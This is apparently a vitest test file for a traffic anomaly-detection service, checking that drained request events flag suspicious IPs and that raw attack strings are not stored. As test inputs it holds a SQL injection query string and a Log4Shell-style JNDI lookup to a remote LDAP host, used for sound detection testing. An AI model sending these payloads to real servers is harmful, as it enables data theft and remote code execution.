import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { database } from "@/db/client";
import { listRuns } from "@/db/detection-runs";
import { listSuspicious } from "@/db/suspicious-ips";
import { testEvent } from "@/db/test/traffic";
import { findJob } from "@/inngest/jobs";
import { readBacklog } from "@/inngest/overview";
import { readEnv } from "@/lib/env";
import { EventBuffer } from "@/lib/events/buffer";
import { EventStore } from "@/lib/events/store";
import { edgeStore } from "@/lib/redis";
import { openTestDatabase } from "@/services/test/database";
import { testUpstash } from "@/services/test/upstash";

const SEAL = "a key for the events of a test";
const HASH = "a key for the hashes of a test";

const [{ db, url }, upstash] = await Promise.all([openTestDatabase(), testUpstash()]);
let store: EventStore;

beforeAll(async () => {
  for (const [name, value] of Object.entries({
    DATABASE_URL: url,
    UPSTASH_REDIS_REST_URL: upstash.url,
    UPSTASH_REDIS_REST_TOKEN: upstash.token,
    IP_HASH_KEY: HASH,
    EVENT_SEAL_KEY: SEAL,
    IP_PRIVACY: "hashed",
    INNGEST_DEV: "",
    INNGEST_EVENT_KEY: "",
    INNGEST_SIGNING_KEY: "",
  })) {
    vi.stubEnv(name, value);
  }
  store = new EventStore(edgeStore(readEnv(), { timeoutMs: 10_000 }));
});
afterAll(async () => {
  await database().$client.end({ timeout: 1 });
  await upstash.stop();
  vi.unstubAllEnvs();
});

async function send(ip: string, query: string): Promise<void> {
  const buffer = new EventBuffer({
    append: (batch, dropped) => store.append(batch, dropped, 100_000),
    sealKey: SEAL,
    flushMs: 5,
  });
  void buffer.record(testEvent({ at: Date.now(), ip, path: "/search", query, status: 200 }));
  await buffer.flush();
}

test("an attack in a query string is flagged by the drain that stores it, and the string is gone", async () => {
  await send("203.0.113.7", "q=1%27%20union%20select%20password%20from%20users--");
  const backlog = await readBacklog(edgeStore(readEnv(), { timeoutMs: 10_000 }));
  expect(backlog.waitingEvents).toBe(1);
  expect(Date.now() - (backlog.oldestAt?.getTime() ?? 0)).toBeLessThan(60_000);
  const result = await findJob("drain-events")?.run({ warn: () => {} });
  expect(result).toMatchObject({ inserted: 1, flagged: 1 });
  const [row] = (await listSuspicious(db, {}, HASH)).rows;
  expect(row?.reasons).toContain("injection");
  const stored = await db.$client<{ row: string }[]>`
    select request_logs::text as row from request_logs
    union all select suspicious_ips::text from suspicious_ips`;
  for (const one of stored) expect(one.row).not.toContain("password");
  expect((await listRuns(db, { trigger: "drain" }))[0]).toMatchObject({ flagged: 1, actor: "drain-events" });
});

test("what somebody does right after he was found is examined by a later drain, without new requests", async () => {
  const drain = () => findJob("drain-events")?.run({ warn: () => {} });
  await send("203.0.113.8", "q=1%27%20union%20select%20password%20from%20users--");
  expect(await drain()).toMatchObject({ inserted: 1, flagged: 1 });
  await send("203.0.113.8", "x=$%7Bjndi:ldap://192.0.2.1/a%7D");
  expect(await drain()).toMatchObject({ inserted: 1, flagged: 0 });
  await expect.poll(async () => (await drain())?.flagged, { timeout: 10_000, interval: 300 }).toBe(1);
  const found = (await listSuspicious(db, { search: "203.0.113.8" }, HASH)).rows[0];
  expect(found?.reasons).toEqual(expect.arrayContaining(["injection", "known-exploit"]));
});

test("a drain with nothing new detects nothing", async () => {
  const before = (await listRuns(db)).length;
  expect(await findJob("drain-events")?.run({ warn: () => {} })).toMatchObject({ events: 0, flagged: 0 });
  expect((await listRuns(db)).length).toBe(before);
});

test("an event's request decides about the window, and nonsense is refused", async () => {
  const job = findJob("detect-anomalies");
  await job?.run({ warn: () => {}, request: { window: "24h", at: "2026-03-10T12:00:00Z", actor: "bob" } });
  const [run] = await listRuns(db);
  expect(run).toMatchObject({ trigger: "api", actor: "bob", windowFrom: new Date("2026-03-09T12:00:00Z") });
  await expect(job?.run({ warn: () => {}, request: { window: "soon" } })).rejects.toMatchObject({
    code: "bad-input",
  });
});
